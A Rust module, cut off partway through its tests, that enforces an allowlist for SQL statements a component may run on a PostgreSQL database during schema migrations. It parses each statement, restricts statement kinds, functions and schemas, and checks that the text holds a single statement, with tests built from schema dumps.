//! The host's allowlist for SQL a component asks to run on a PostgreSQL database.
//!
//! A component may only run what a schema migration needs: create types, tables, sequences
//! and indexes, add keys, set column defaults and sequence values, comment on columns, drop
//! Blocklet objects it is about to recreate, fill `SequelizeMeta`, use savepoints, and run
//! read-only checks. Every statement is parsed with a real SQL parser (`sqlparser`, PostgreSQL
//! dialect) and walked in full: the statement kind, every function called anywhere in it
//! (allowlist), every relation it names (schema `public` only) and every `FROM` item. Anything
//! else is refused with a message naming what was refused.
//!
//! Defence in depth, because a parser that disagrees with the server about where a statement
//! ends would let a second statement through: the raw text is also split the way
//! PostgreSQL's own lexer splits it (quotes, `E''` strings, dollar quotes, nested comments),
//! under both settings of `standard_conforming_strings`, and must hold exactly one statement.
//! NUL and other control characters, and statements over [`MAX_STATEMENT_BYTES`], are refused.

use sqlparser::ast::{
    AlterColumnOperation, AlterTableOperation, CommentObject, Expr, Function, FunctionArg, FunctionArgExpr,
    FunctionArguments, Ident, IndexType, ObjectName, ObjectNamePart, ObjectType, Query, Select, SetExpr, Statement,
    TableConstraint, TableFactor, TableObject, UserDefinedTypeRepresentation, Value, Visit, Visitor,
};
use sqlparser::dialect::PostgreSqlDialect;
use sqlparser::parser::Parser;
use sqlparser::tokenizer::{Span, Token, Tokenizer};
use std::ops::ControlFlow;

/// Longest statement accepted. The largest statement of the 1.17.12 schema is a few KiB.
pub const MAX_STATEMENT_BYTES: usize = 1 << 20;

/// How deeply expressions and queries may nest (the parser's own guard against stack
/// exhaustion on hostile input).
const RECURSION_LIMIT: usize = 64;

/// Functions any checked statement may call: pure built-ins that the migration's defaults,
/// checks and sequence updates use, and a few of their obvious relatives.
const PURE_FUNCTIONS: &[&str] = &[
    "array_length",
    "array_position",
    "avg",
    "bool_and",
    "bool_or",
    "cardinality",
    "char_length",
    "coalesce",
    "concat",
    "concat_ws",
    "count",
    "current_timestamp",
    "greatest",
    "json_typeof",
    "jsonb_typeof",
    "least",
    "length",
    "lower",
    "max",
    "min",
    "now",
    "nullif",
    "octet_length",
    "sum",
    "upper",
];

/// Sequence functions: allowed in statements run with `execute` (column defaults, setting
/// sequences past the copied ids), never in read-only queries, and only on a sequence of
/// schema `public` named by a string literal.
const SEQUENCE_FUNCTIONS: &[&str] = &["nextval", "setval"];

/// Leading keywords of the statements this guard may accept, to tell an unparsable
/// allowed statement from a statement kind the parser does not know (`ALTER SYSTEM`, `DO`).
const ALLOWED_KINDS: &[&str] = &[
    "ALTER SEQUENCE",
    "ALTER TABLE",
    "COMMENT ON",
    "CREATE INDEX",
    "CREATE SEQUENCE",
    "CREATE TABLE",
    "CREATE TYPE",
    "CREATE UNIQUE INDEX",
    "DROP INDEX",
    "DROP SEQUENCE",
    "DROP TABLE",
    "DROP TYPE",
    "INSERT",
    "RELEASE",
    "ROLLBACK",
    "SAVEPOINT",
    "SELECT",
    "TABLE",
    "VALUES",
    "WITH",
];

/// The one table a component may insert into.
const META_TABLE: &str = "SequelizeMeta";

/// Which handle call a statement came through.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Mode {
    /// `handle.execute` on a target: schema statements, sequence updates, the meta insert.
    Execute,
    /// `handle.query`: read-only selects only.
    Query,
}

/// Check one statement a component asks to run with `execute` on a PostgreSQL target.
/// `Ok(())` when it is on the allowlist; otherwise a message naming what was refused.
pub fn check_target_statement(sql: &str) -> Result<(), String> {
    check(sql, Mode::Execute)
}

/// Check one statement a component asks to run with `query` (on a PostgreSQL target or
/// source): a read-only `SELECT` calling only pure functions, and nothing else.
pub fn check_read_only_query(sql: &str) -> Result<(), String> {
    check(sql, Mode::Query)
}

fn check(sql: &str, mode: Mode) -> Result<(), String> {
    if sql.len() > MAX_STATEMENT_BYTES {
        return Err(format!("refused a statement of {} bytes: the limit is {MAX_STATEMENT_BYTES}", sql.len()));
    }
    if let Some(c) = sql.chars().find(|&c| c.is_control() && !matches!(c, '\n' | '\r' | '\t')) {
        return Err(format!("refused a statement containing the control character U+{:04X}", c as u32));
    }
    pg_lexer_single_statement(sql)?;
    let dialect = PostgreSqlDialect {};
    let parsed = Parser::new(&dialect)
        .with_recursion_limit(RECURSION_LIMIT)
        .try_with_sql(sql)
        .and_then(|mut p| p.parse_statements());
    let statements = match parsed {
        Ok(s) => s,
        Err(e) => {
            // sqlparser has no ALTER SEQUENCE; the dump's one form is recognised token by token.
            if mode == Mode::Execute && leading_words(sql, 2) == "ALTER SEQUENCE" {
                return check_alter_sequence_owned_by(sql);
            }
            let kind = statement_kind(sql);
            return Err(if leading_words(sql, 1).is_empty() {
                format!("refused a statement that does not parse as PostgreSQL: {e}")
            } else if ALLOWED_KINDS.contains(&kind.as_str()) {
                format!("refused a {kind} statement that does not parse as PostgreSQL: {e}")
            } else {
                format!("refused {kind}: not a statement a schema migration needs")
            });
        }
    };
    let statement = match statements.as_slice() {
        [] => return Err("refused an empty statement".into()),
        [one] => one,
        more => {
            return Err(format!("refused {} statements in one string: send one statement per call", more.len()));
        }
    };
    check_statement(statement, sql, mode)?;
    let mut guard = Guard { mode, statements_seen: 0 };
    match statement.visit(&mut guard) {
        ControlFlow::Continue(()) => Ok(()),
        ControlFlow::Break(message) => Err(message),
    }
}

/// The statement kind itself: is it on the allowlist for this mode, with allowed options.
fn check_statement(statement: &Statement, sql: &str, mode: Mode) -> Result<(), String> {
    let refuse_kind = || -> Result<(), String> {
        Err(format!(
            "refused {}: {}",
            statement_kind(sql),
            match mode {
                Mode::Execute => "not a statement a schema migration needs",
                Mode::Query => "only a read-only SELECT may be run as a query",
            }
        ))
    };
    if mode == Mode::Query {
        return match statement {
            Statement::Query(_) => Ok(()),
            _ => refuse_kind(),
        };
    }
    match statement {
        Statement::Query(_) => Ok(()),
        Statement::CreateType { name, representation: Some(UserDefinedTypeRepresentation::Enum { .. }) } => {
            check_name(name, "type")
        }
        Statement::CreateType { .. } => {
            Err("refused CREATE TYPE: only enum types (CREATE TYPE … AS ENUM) may be created".into())
        }
        Statement::CreateTable(t) => {
            let extra = if t.query.is_some() {
                Some("AS (a query)")
            } else if t.like.is_some() {
                Some("LIKE")
            } else if t.clone.is_some() {
                Some("CLONE")
            } else if t.inherits.is_some() {
                Some("INHERITS")
            } else if t.partition_of.is_some() {
                Some("PARTITION OF")
            } else {
                None
            };
            if let Some(extra) = extra {
                return Err(format!("refused CREATE TABLE … {extra}: only plain table definitions may be created"));
            }
            check_name(&t.name, "table")
        }
        Statement::CreateSequence { name, .. } => check_name(name, "sequence"),
        Statement::AlterTable(a) => {
            check_name(&a.name, "table")?;
            if a.table_type.is_some() {
                return refuse_kind();
            }
            for op in &a.operations {
                match op {
                    AlterTableOperation::AlterColumn { op: AlterColumnOperation::SetDefault { .. }, .. } => {}
                    AlterTableOperation::AddConstraint { constraint, .. } => match constraint {
                        TableConstraint::PrimaryKey(_)
                        | TableConstraint::Unique(_)
                        | TableConstraint::ForeignKey(_) => {}
                        other => {
                            return Err(format!(
                                "refused ALTER TABLE … ADD {}: only primary keys, unique and foreign keys may be added",
                                first_words(&other.to_string(), 4)
                            ));
                        }
                    },
                    other => {
                        return Err(format!(
                            "refused ALTER TABLE … {}: only ALTER COLUMN … SET DEFAULT and ADD CONSTRAINT are allowed",
                            first_words(&other.to_string(), 3)
                        ));
                    }
                }
            }
            Ok(())
        }
        Statement::CreateIndex(i) => {
            check_name(&i.table_name, "table")?;
            if let Some(name) = &i.name {
                check_name(name, "index")?;
            }
            match &i.using {
                None | Some(IndexType::BTree) | Some(IndexType::GIN) | Some(IndexType::Hash) => Ok(()),
                Some(other) => Err(format!(
                    "refused CREATE INDEX … USING {other}: only btree, hash and gin indexes may be created"
                )),
            }
        }
        Statement::Comment { object_type, object_name, .. } => match object_type {
            CommentObject::Table => check_name(object_name, "table"),
            CommentObject::Column => {
                let parts = &object_name.0;
                if parts.len() < 2 {
                    return Err(format!("refused COMMENT ON COLUMN {object_name}: name the table"));
                }
                check_name(&ObjectName(parts[..parts.len() - 1].to_vec()), "table")
            }
            other => Err(format!("refused COMMENT ON {other}: only tables and columns may be commented on")),
        },
        Statement::Drop { object_type, names, temporary, purge, table, .. } => {
            let what = match object_type {
                ObjectType::Table => "table",
                ObjectType::Type => "type",
                ObjectType::Sequence => "sequence",
                ObjectType::Index => "index",
                _ => return refuse_kind(),
            };
            if *temporary || *purge || table.is_some() {
                return refuse_kind();
            }
            names.iter().try_for_each(|n| check_name(n, what))
        }
        Statement::Savepoint { .. } | Statement::ReleaseSavepoint { .. } => Ok(()),
        Statement::Rollback { savepoint: Some(_), chain: false } => Ok(()),
        Statement::Rollback { .. } => {
            Err("refused ROLLBACK: the host owns the transaction (only ROLLBACK TO SAVEPOINT is allowed)".into())
        }
        Statement::Insert(ins) => {
            let table = match &ins.table {
                TableObject::TableName(name) => name,
                TableObject::TableFunction(f) => {
                    return Err(format!("refused INSERT INTO FUNCTION {}", f.name));
                }
                TableObject::TableQuery(_) => {
                    return Err("refused INSERT INTO (a query)".into());
                }
            };
            let is_meta = match table.0.as_slice() {
                [ObjectNamePart::Identifier(t)] => t.value == META_TABLE,
                [ObjectNamePart::Identifier(s), ObjectNamePart::Identifier(t)] => is_public(s) && t.value == META_TABLE,
                _ => false,
            };
            if !is_meta {
                return Err(format!("refused INSERT INTO {table}: only \"{META_TABLE}\" may be inserted into"));
            }
            let columns_ok = matches!(ins.columns.as_slice(),
                [ObjectName(parts)] if matches!(parts.as_slice(),
                    [ObjectNamePart::Identifier(c)] if c.value.eq_ignore_ascii_case("name")));
            if !columns_ok {
                return Err(format!("refused INSERT INTO {table}: only the column list (name) is allowed"));
            }
            if ins.or.is_some()
                || ins.ignore
                || ins.replace_into
                || ins.overwrite
                || ins.on.is_some()
                || ins.returning.is_some()
                || ins.output.is_some()
                || !ins.assignments.is_empty()
                || ins.table_alias.is_some()
            {
                return Err(format!("refused INSERT INTO {table}: only INSERT … (name) VALUES ('…'), … is allowed"));
            }
            let values_only =
                ins.source.as_deref().is_some_and(|q| {
                    q.with.is_none()
                        && q.order_by.is_none()
                        && q.limit_clause.is_none()
                        && match q.body.as_ref() {
                            SetExpr::Values(v) => v.rows.iter().flat_map(|r| &r.content).all(
                                |e| matches!(e, Expr::Value(v) if matches!(v.value, Value::SingleQuotedString(_))),
                            ),
                            _ => false,
                        }
                });
            if !values_only {
                return Err(format!("refused INSERT INTO {table}: only VALUES lists of string literals are allowed"));
            }
            Ok(())
        }
        _ => refuse_kind(),
    }
}

/// Walks every node of the statement: nested statements, queries, selects, relations,
/// `FROM` items and function calls.
struct Guard {
    mode: Mode,
    statements_seen: usize,
}

impl Visitor for Guard {
    type Break = String;

    fn pre_visit_statement(&mut self, statement: &Statement) -> ControlFlow<String> {
        self.statements_seen += 1;
        if self.statements_seen > 1 {
            return ControlFlow::Break(format!(
                "refused a statement nested in another ({})",
                first_words(&statement.to_string(), 2)
            ));
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<String> {
        if !query.locks.is_empty() {
            return ControlFlow::Break("refused SELECT … FOR UPDATE/SHARE: queries must not lock rows".into());
        }
        if let Some(with) = &query.with {
            if with.recursive {
                return ControlFlow::Break(
                    "refused WITH RECURSIVE: a recursive query can run (and return rows) without end".into(),
                );
            }
            for cte in &with.cte_tables {
                if let Err(e) = read_only_set_expr(&cte.query.body) {
                    return ControlFlow::Break(e);
                }
            }
        }
        match read_only_set_expr(&query.body) {
            Ok(()) => ControlFlow::Continue(()),
            Err(e) => ControlFlow::Break(e),
        }
    }

    fn pre_visit_select(&mut self, select: &Select) -> ControlFlow<String> {
        if select.into.is_some() {
            return ControlFlow::Break("refused SELECT … INTO: it creates a table; use CREATE TABLE".into());
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<String> {
        match check_name(relation, "relation") {
            Ok(()) => ControlFlow::Continue(()),
            Err(e) => ControlFlow::Break(e),
        }
    }

    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<String> {
        match factor {
            TableFactor::Table {
                args: None,
                version: None,
                sample: None,
                json_path: None,
                with_hints,
                partitions,
                index_directives,
                ..
            } if with_hints.is_empty() && partitions.is_empty() && index_directives.is_empty() => {
                // the name itself is checked by pre_visit_relation
                ControlFlow::Continue(())
            }
            TableFactor::Table { name, args: Some(_), .. } => ControlFlow::Break(format!(
                "refused the table function {name}(…) in FROM: only tables and subqueries may be read"
            )),
            TableFactor::Derived { sample: None, .. } | TableFactor::NestedJoin { .. } => ControlFlow::Continue(()),
            other => ControlFlow::Break(format!(
                "refused the FROM item {}: only tables and subqueries may be read",
                first_words(&other.to_string(), 3)
            )),
        }
    }

    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<String> {
        if let Expr::Function(f) = expr
            && let Err(e) = check_function(f, self.mode)
        {
            return ControlFlow::Break(e);
        }
        ControlFlow::Continue(())
    }
}

/// A query body that only reads: no data-modifying statement anywhere in it.
fn read_only_set_expr(body: &SetExpr) -> Result<(), String> {
    match body {
        SetExpr::Select(_) | SetExpr::Values(_) | SetExpr::Query(_) | SetExpr::Table(_) => Ok(()),
        SetExpr::SetOperation { left, right, .. } => {
            read_only_set_expr(left)?;
            read_only_set_expr(right)
        }
        SetExpr::Insert(_) | SetExpr::Update(_) | SetExpr::Delete(_) | SetExpr::Merge(_) => {
            Err("refused a data-modifying statement inside a query (WITH … INSERT/UPDATE/DELETE/MERGE)".into())
        }
    }
}

fn check_function(f: &Function, mode: Mode) -> Result<(), String> {
    let name = match f.name.0.as_slice() {
        [ObjectNamePart::Identifier(id)] => id.value.to_ascii_lowercase(),
        _ => {
            return Err(format!(
                "refused a call to the schema-qualified function {}: only a fixed set of built-in functions may be called, unqualified",
                f.name
            ));
        }
    };
    let allowed_here = PURE_FUNCTIONS.contains(&name.as_str())
        || (mode == Mode::Execute && SEQUENCE_FUNCTIONS.contains(&name.as_str()));
    if !allowed_here {
        let mut allowed: Vec<&str> = PURE_FUNCTIONS.to_vec();
        if mode == Mode::Execute {
            allowed.extend_from_slice(SEQUENCE_FUNCTIONS);
        }
        allowed.sort_unstable();
        return Err(format!("refused a call to the function {}: only {} may be called", f.name, allowed.join(", ")));
    }
    if SEQUENCE_FUNCTIONS.contains(&name.as_str()) {
        let first = match &f.args {
            FunctionArguments::List(list) => list.args.first(),
            _ => None,
        };
        let literal = match first {
            Some(FunctionArg::Unnamed(FunctionArgExpr::Expr(e))) => string_literal(e),
            _ => None,
        };
        match literal {
            Some(seq) if is_public_sequence_literal(seq) => {}
            _ => {
                return Err(format!(
                    "refused {name}(…): its first argument must be a string literal naming a sequence of schema public"
                ));
            }
        }
    }
    Ok(())
}

/// `'x'` or `'x'::regclass` (or any cast of a string literal).
fn string_literal(e: &Expr) -> Option<&str> {
    match e {
        Expr::Value(v) => match &v.value {
            Value::SingleQuotedString(s) => Some(s),
            _ => None,
        },
        Expr::Cast { expr, .. } | Expr::Nested(expr) => string_literal(expr),
        _ => None,
    }
}

/// `public.x_seq`, `public."x_seq"`, `x_seq`, `"x_seq"`: a sequence of schema public.
fn is_public_sequence_literal(s: &str) -> bool {
    let dialect = PostgreSqlDialect {};
    let Ok(mut parser) = Parser::new(&dialect).try_with_sql(s) else {
        return false;
    };
    let Ok(name) = parser.parse_object_name(false) else {
        return false;
    };
    if parser.peek_token().token != Token::EOF {
        return false;
    }
    check_name(&name, "sequence").is_ok()
}

fn is_public(id: &Ident) -> bool {
    match id.quote_style {
        None => id.value.eq_ignore_ascii_case("public"),
        Some(_) => id.value == "public",
    }
}

/// An object a component may name: `name` or `public.name`, never a system object.
fn check_name(name: &ObjectName, what: &str) -> Result<(), String> {
    let ids: Vec<&Ident> = name
        .0
        .iter()
        .filter_map(|p| match p {
            ObjectNamePart::Identifier(id) => Some(id),
            ObjectNamePart::Function(_) => None,
        })
        .collect();
    if ids.len() != name.0.len() {
        return Err(format!("refused the {what} name {name}"));
    }
    let object = match ids.as_slice() {
        [object] => object,
        [schema, object] if is_public(schema) => object,
        _ => {
            return Err(format!("refused a reference to the {what} {name}: only objects of schema public may be used"));
        }
    };
    if object.value.to_ascii_lowercase().starts_with("pg_") {
        return Err(format!(
            "refused a reference to the {what} {name}: names starting with pg_ are reserved for the system"
        ));
    }
    Ok(())
}

/// `ALTER SEQUENCE [public.]seq OWNED BY [public.]table.column [;]`, the one form the schema
/// dump uses, recognised on the parser's own tokens (sqlparser does not parse ALTER SEQUENCE).
fn check_alter_sequence_owned_by(sql: &str) -> Result<(), String> {
    let refuse = || {
        Err::<(), String>(
            "refused ALTER SEQUENCE: only ALTER SEQUENCE public.<sequence> OWNED BY public.<table>.<column> is allowed"
                .into(),
        )
    };
    let dialect = PostgreSqlDialect {};
    let Ok(tokens) = Tokenizer::new(&dialect, sql).tokenize() else {
        return refuse();
    };
    let tokens: Vec<Token> = tokens.into_iter().filter(|t| !matches!(t, Token::Whitespace(_))).collect();
    let mut pos = 0;
    let keyword = |pos: &mut usize, kw: &str| -> bool {
        match tokens.get(*pos) {
            Some(Token::Word(w)) if w.quote_style.is_none() && w.value.eq_ignore_ascii_case(kw) => {
                *pos += 1;
                true
            }
            _ => false,
        }
    };
    // A dotted name of identifiers.
    let name = |pos: &mut usize| -> Option<ObjectName> {
        let mut parts = Vec::new();
        loop {
            match tokens.get(*pos) {
                Some(Token::Word(w)) => {
                    parts.push(ObjectNamePart::Identifier(Ident {
                        value: w.value.clone(),
                        quote_style: w.quote_style,
                        span: Span::empty(),
                    }));
                    *pos += 1;
                }
                _ => return None,
            }
            if tokens.get(*pos) == Some(&Token::Period) {
                *pos += 1;
            } else {
                return Some(ObjectName(parts));
            }
        }
    };
    if !(keyword(&mut pos, "ALTER") && keyword(&mut pos, "SEQUENCE")) {
        return refuse();
    }
    let Some(sequence) = name(&mut pos) else {
        return refuse();
    };
    if !(keyword(&mut pos, "OWNED") && keyword(&mut pos, "BY")) {
        return refuse();
    }
    let Some(owner) = name(&mut pos) else {
        return refuse();
    };
    if tokens.get(pos) == Some(&Token::SemiColon) {
        pos += 1;
    }
    if pos != tokens.len() {
        return refuse();
    }
    check_name(&sequence, "sequence")?;
    match owner.0.len() {
        2 | 3 => check_name(&ObjectName(owner.0[..owner.0.len() - 1].to_vec()), "table"),
        _ => refuse(),
    }
}

/// The statement's leading keywords, upper-cased, for messages: `COPY`, `ALTER SYSTEM`,
/// `CREATE EXTENSION`, `CREATE OR REPLACE FUNCTION`, `SET SESSION AUTHORIZATION`.
fn statement_kind(sql: &str) -> String {
    const MODIFIERS: &[&str] = &[
        "OR",
        "REPLACE",
        "UNIQUE",
        "TEMP",
        "TEMPORARY",
        "UNLOGGED",
        "TRUSTED",
        "PROCEDURAL",
        "GLOBAL",
        "LOCAL",
        "MATERIALIZED",
        "SESSION",
        "CONSTRAINT",
        "EVENT",
        "FOREIGN",
        "DEFAULT",
        "LARGE",
    ];
    let words = words(sql, 8);
    let mut kind: Vec<String> = Vec::new();
    for (i, w) in words.iter().enumerate() {
        let upper = w.to_ascii_uppercase();
        let continues = i == 1
            && matches!(kind[0].as_str(), "CREATE" | "ALTER" | "DROP" | "SET" | "RESET" | "COMMENT" | "SECURITY")
            || i > 1 && MODIFIERS.contains(&kind[i - 1].as_str());
        if i > 0 && !continues {
            break;
        }
        kind.push(upper);
    }
    if kind.is_empty() { "an empty statement".into() } else { kind.join(" ") }
}

/// The first `n` words of the statement, upper-cased and joined by a space.
fn leading_words(sql: &str, n: usize) -> String {
    words(sql, n).iter().map(|w| w.to_ascii_uppercase()).collect::<Vec<_>>().join(" ")
}

/// Up to `n` leading unquoted words, skipping whitespace and comments.
fn words(sql: &str, n: usize) -> Vec<String> {
    let dialect = PostgreSqlDialect {};
    let Ok(tokens) = Tokenizer::new(&dialect, sql).tokenize() else {
        // Fall back to whitespace splitting for text the tokenizer rejects.
        return sql
            .split_whitespace()
            .take(n)
            .take_while(|w| w.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
            .map(str::to_string)
            .collect();
    };
    tokens
        .into_iter()
        .filter(|t| !matches!(t, Token::Whitespace(_)))
        .map_while(|t| match t {
            Token::Word(w) if w.quote_style.is_none() => Some(w.value),
            _ => None,
        })
        .take(n)
        .collect()
}

/// At most `n` words of a rendered AST node, for messages.
fn first_words(s: &str, n: usize) -> String {
    s.split_whitespace().take(n).collect::<Vec<_>>().join(" ")
}

/// Split the text the way PostgreSQL's lexer does and refuse more than one statement, under
/// both settings of `standard_conforming_strings`.
fn pg_lexer_single_statement(sql: &str) -> Result<(), String> {
    for standard_strings in [true, false] {
        let n = pg_lexer_statements(sql, standard_strings)?;
        if n > 1 {
            return Err(format!("refused {n} statements in one string: send one statement per call"));
        }
    }
    Ok(())
}

/// How many non-empty statements PostgreSQL's lexer sees in `sql` (split on `;` outside
/// quotes and comments). An unterminated quote or comment is refused.
fn pg_lexer_statements(sql: &str, standard_strings: bool) -> Result<usize, String> {
    let b = sql.as_bytes();
    let ident_char = |c: u8| c.is_ascii_alphanumeric() || c == b'_' || c == b'$' || c >= 0x80;
    let mut statements = 0usize;
    let mut current_has_content = false;
    let mut i = 0usize;
    let unterminated = |what: &str| Err(format!("refused a statement with an unterminated {what}"));
    while i < b.len() {
        let c = b[i];
        match c {
            b'-' if b.get(i + 1) == Some(&b'-') => {
                while i < b.len() && b[i] != b'\n' && b[i] != b'\r' {
                    i += 1;
                }
                continue;
            }
            b'/' if b.get(i + 1) == Some(&b'*') => {
                let mut depth = 0usize;
                loop {
                    if i + 1 >= b.len() {
                        return unterminated("comment");
                    }
                    if b[i] == b'/' && b[i + 1] == b'*' {
                        depth += 1;
                        i += 2;
                    } else if b[i] == b'*' && b[i + 1] == b'/' {
                        depth -= 1;
                        i += 2;
                        if depth == 0 {
                            break;
                        }
                    } else {
                        i += 1;
                    }
                }
                continue;
            }
            b';' => {
                if current_has_content {
                    statements += 1;
                }
                current_has_content = false;
                i += 1;
                continue;
            }
            c if c.is_ascii_whitespace() => {
                i += 1;
                continue;
            }
            _ => {}
        }
        current_has_content = true;
        match c {
            b'\'' => {
                // E'…' (an E that is a token of its own) takes backslash escapes; so does any
                // string when standard_conforming_strings is off.
                let escaped = !standard_strings
                    || (i >= 1 && (b[i - 1] == b'E' || b[i - 1] == b'e') && (i < 2 || !ident_char(b[i - 2])));
                i += 1;
                loop {
                    match b.get(i) {
                        None => return unterminated("string"),
                        Some(b'\\') if escaped => i += 2,
                        Some(b'\'') if b.get(i + 1) == Some(&b'\'') => i += 2,
                        Some(b'\'') => {
                            i += 1;
                            break;
                        }
                        Some(_) => i += 1,
                    }
                }
            }
            b'"' => {
                i += 1;
                loop {
                    match b.get(i) {
                        None => return unterminated("quoted identifier"),
                        Some(b'"') if b.get(i + 1) == Some(&b'"') => i += 2,
                        Some(b'"') => {
                            i += 1;
                            break;
                        }
                        Some(_) => i += 1,
                    }
                }
            }
            b'$' if i == 0 || !ident_char(b[i - 1]) => {
                // $tag$ … $tag$ (tag may be empty; it does not start with a digit).
                let mut j = i + 1;
                while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'_' || b[j] >= 0x80) {
                    j += 1;
                }
                let tag_ok = b.get(j) == Some(&b'$') && !b.get(i + 1).is_some_and(|c| c.is_ascii_digit());
                if tag_ok {
                    let delimiter = &b[i..=j];
                    let body_start = j + 1;
                    match find(&b[body_start..], delimiter) {
                        Some(k) => i = body_start + k + delimiter.len(),
                        None => return unterminated("dollar-quoted string"),
                    }
                } else {
                    i += 1;
                }
            }
            _ => {
                // An identifier, keyword, number or operator character: skip one identifier
                // run at once so that `E` before a quote is judged by what precedes it.
                if ident_char(c) {
                    // `E'`: the quote is left to the next round, which looks back at the E.
                    while i < b.len() && ident_char(b[i]) {
                        i += 1;
                    }
                } else {
                    i += 1;
                }
            }
        }
    }
    if current_has_content {
        statements += 1;
    }
    Ok(statements)
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The 1.17.12 dumps the guest replays, compiled in so a changed dump re-runs the test.
    const DUMPS: &[(&str, &str)] = &[
        ("pg-blocklet_db_APPDID.sql", include_str!("../../guest/schema/blocklet-1.17.12/pg-blocklet_db_APPDID.sql")),
        ("pg-module_db.sql", include_str!("../../guest/schema/blocklet-1.17.12/pg-module_db.sql")),
        ("pg-server_db.sql", include_str!("../../guest/schema/blocklet-1.17.12/pg-server_db.sql")),
        ("pg-service_db.sql", include_str!("../../guest/schema/blocklet-1.17.12/pg-service_db.sql")),
    ];

    /// The dump's statements, split as the guest splits them (lines ending in `;`), without
    /// the dump's own session settings.
    fn dump_statements(dump: &str) -> Vec<String> {
        let mut out = Vec::new();
        let mut cur = String::new();
        for line in dump.lines() {
            let trimmed = line.trim();
            if cur.is_empty() && (trimmed.is_empty() || trimmed.starts_with("--") || trimmed.starts_with('\\')) {
                continue;
            }
            if !cur.is_empty() {
                cur.push('\n');
            }
            cur.push_str(line);
            if trimmed.ends_with(';') {
                let sql = std::mem::take(&mut cur);
                if !(sql.starts_with("SET ") || sql.starts_with("SELECT pg_catalog.set_config")) {
                    out.push(sql);
                }
            }
        }
        out
    }

    fn dumps() -> &'static [(&'static str, &'static str)] {
        // Every pg-*.sql of the schema dir is one of the dumps above.
        let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../guest/schema/blocklet-1.17.12");
        if let Ok(entries) = std::fs::read_dir(dir) {
            for entry in entries {
                let name = entry.unwrap().file_name().to_string_lossy().to_string();
                if name.starts_with("pg-") && name.ends_with(".sql") {
                    assert!(DUMPS.iter().any(|(n, _)| *n == name), "{name} is not in sql_guard's DUMPS: add it");
                }
            }
        }
        DUMPS
    }

    #[test]
    fn accepts_every_statement_of_every_schema_dump() {
        let mut total = 0;
        let mut kinds = std::collections::BTreeMap::<String, usize>::new();
        for (file, dump) in dumps() {
            let statements = dump_statements(dump);
            assert!(!statements.is_empty(), "{file}: no statements");
            for sql in statements {
                if let Err(e) = check_target_statement(&sql) {
                    panic!("{file}: refused a schema statement:\n{sql}\n→ {e}");
                }
                *kinds.entry(statement_kind(&sql)).or_default() += 1;
                total += 1;
            }
        }
        assert!(total > 300, "only {total} statements");
        for kind in [
            "CREATE TYPE",
            "CREATE TABLE",
            "CREATE SEQUENCE",
            "ALTER SEQUENCE",
            "ALTER TABLE",
            "CREATE INDEX",
            "CREATE UNIQUE INDEX",
            "COMMENT ON",
        ] {
            assert!(kinds.contains_key(kind), "no {kind} in the dumps: {kinds:?}");
        }
    }

    #[test]
    fn the_dump_session_settings_are_refused() {
        // The guest skips them; if it ever sent them they would be refused.
        for (_, dump) in dumps() {
            let mut cur = String::new();
            for line in dump.lines() {
                if line.starts_with("SET ") || line.starts_with("SELECT pg_catalog.set_config") {
                    cur.push_str(line);
                    assert!(check_target_statement(&cur).is_err(), "{cur}");
                    cur.clear();
                }
            }
        }
    }

    const GENERATED: &[&str] = &[
        r#"DROP TABLE IF EXISTS public."users" CASCADE"#,
        r#"DROP TABLE IF EXISTS public."SequelizeMeta" CASCADE"#,
        r#"DROP TYPE IF EXISTS public."enum_access_keys_authType" CASCADE"#,
        r#"DROP TYPE IF EXISTS public."enum_notifications_severity" CASCADE"#,
        r#"DROP SEQUENCE IF EXISTS public."tags_id_seq" CASCADE"#,
        "SAVEPOINT enforce_key",
        "RELEASE SAVEPOINT enforce_key",
        "ROLLBACK TO SAVEPOINT enforce_key",
        r#"SELECT setval('public."tags_id_seq"', COALESCE((SELECT max("id") FROM public."tags"), 0) + 1, false)"#,
        r#"INSERT INTO public."SequelizeMeta" (name) VALUES ('a'), ('b')"#,
        r#"INSERT INTO public."SequelizeMeta" (name) VALUES ('20230101-add-x.js'), ('it''s.js')"#,
        // explain_duplicates, with and without a primary key
        r#"SELECT concat_ws(', ', 'id=' || coalesce(r."id"::text, 'NULL')), concat_ws(', ', r."did"::text, r."pk"::text) FROM public."users" r WHERE (r."did", r."pk") IN (SELECT "did", "pk" FROM public."users" GROUP BY "did", "pk" HAVING count(*) > 1) LIMIT 100"#,
        r#"SELECT 'ctid ' || r.ctid::text, concat_ws(', ', r."name"::text) FROM public."SequelizeMeta" r WHERE (r."name") IN (SELECT "name" FROM public."SequelizeMeta" GROUP BY "name" HAVING count(*) > 1) LIMIT 100"#,
        // explain_orphans
        r#"SELECT concat_ws(', ', 'id=' || coalesce(c."id"::text, 'NULL')), concat_ws(', ', c."userDid"::text) FROM public."passports" c WHERE c."userDid" IS NOT NULL AND NOT EXISTS (SELECT 1 FROM public."users" p WHERE p."did" = c."userDid") LIMIT 100"#,
        // a trailing semicolon is one statement
        "SAVEPOINT enforce_key;",
        "CREATE TABLE public.t (id integer NOT NULL, v text DEFAULT now()::text);",
        "-- a comment\nCREATE INDEX t_v ON public.t USING btree (v) /* trailing */",
    ];

    #[test]
    fn accepts_what_the_component_generates() {
        for sql in GENERATED {
            if let Err(e) = check_target_statement(sql) {
                panic!("refused a generated statement:\n{sql}\n→ {e}");
            }
        }
    }

    #[test]
    fn read_only_queries_accept_checks_and_refuse_writes() {
        for sql in GENERATED.iter().filter(|s| s.starts_with("SELECT concat_ws") || s.starts_with("SELECT 'ctid")) {
            check_read_only_query(sql).unwrap_or_else(|e| panic!("{sql}: {e}"));
        }
        check_read_only_query(r#"SELECT count(*) FROM public."users""#).unwrap();
        // to_sqlite reads a PostgreSQL source's sequence
        check_read_only_query(
            r#"SELECT CASE WHEN is_called THEN last_value ELSE last_value - 1 END FROM public."tags_id_seq""#,
        )
        .unwrap();
        check_read_only_query("SELECT 1").unwrap();
        for (sql, reason) in [
            (GENERATED[8], "setval"),
